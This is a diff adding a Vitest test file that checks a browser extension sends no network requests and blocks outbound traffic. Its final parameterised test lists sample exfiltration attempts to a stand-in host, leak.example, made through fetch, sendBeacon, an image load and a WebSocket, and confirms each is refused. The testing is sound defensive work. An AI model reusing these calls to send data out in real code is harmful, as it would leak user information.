@@ -1,0 +1,55 @@
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import type { DrivenBrowser } from '../../../scripts/drive/browser.ts';
+import { scrollToEnd } from '../../../scripts/drive/scroll.ts';
+import { settledRecord } from '../../../scripts/drive/settled.ts';
+import { receivedUrl } from '../../../scripts/drive/site.ts';
+import { browserKinds, openAnteroom, visit } from '../harness/open.ts';
+
+describe.each(browserKinds)('promise 1, nothing leaves the device, in %s', (kind) => {
+  let browser: DrivenBrowser;
+
+  beforeAll(async () => {
+    browser = await openAnteroom(kind);
+  });
+  afterAll(() => browser?.close());
+
+  it('makes no request while reading, suggesting, showing, scrolling and explaining', async () => {
+    const { tab, sidebar } = await visit(browser, { count: 30, rendered: 12 });
+    await settledRecord(browser, tab.tabId, 20_000);
+    await scrollToEnd(tab.page, 20_000);
+    await sidebar.press('button', /^Why/);
+    await browser.stopBackground();
+    await settledRecord(browser, tab.tabId, 5000);
+    await browser.openExtensionPage('src/popup/index.html');
+    expect(await browser.extensionRequests()).toEqual([]);
+  });
+
+  it('causes no request of the page: the stand-in asks for itself and nothing else', () => {
+    const asked = browser.requests.by('page').map(({ url }) => url);
+    const own = new Set([receivedUrl, 'https://www.linkedin.com/favicon.ico']);
+    expect(asked.filter((url) => !own.has(url))).toEqual([]);
+  });
+
+  it.each([
+    ['a request', `fetch('https://leak.example/a')`],
+    ['a request to LinkedIn', `fetch('https://www.linkedin.com/leak')`],
+    ['a beacon', `Promise.resolve(navigator.sendBeacon('https://leak.example/b', 'x'))`],
+    [
+      'a picture',
+      `new Promise((done, fail) => Object.assign(new Image(), { onload: done, onerror: fail, src: 'https://leak.example/c' }))`,
+    ],
+    [
+      'a socket',
+      `new Promise((done, fail) => Object.assign(new WebSocket('wss://leak.example/d'), { onopen: done, onerror: fail }))`,
+    ],
+  ])('would not even let our own pages make %s', async (_, attempt) => {
+    const outcome = await browser.inExtension(
+      `Promise.resolve().then(() => ${attempt}).then((value) => value === false ? 'refused' : 'sent', () => 'refused')`,
+    );
+    // A beacon says only that it was queued, so what counts is that no request came of it.
+    if (!attempt.includes('sendBeacon')) expect(outcome).toBe('refused');
+    await new Promise((resolve) => setTimeout(resolve, 300));
+    expect(await browser.extensionRequests()).toEqual([]);
+    expect(browser.requests.seen.filter(({ url }) => url.includes('leak'))).toEqual([]);
+  });
+});
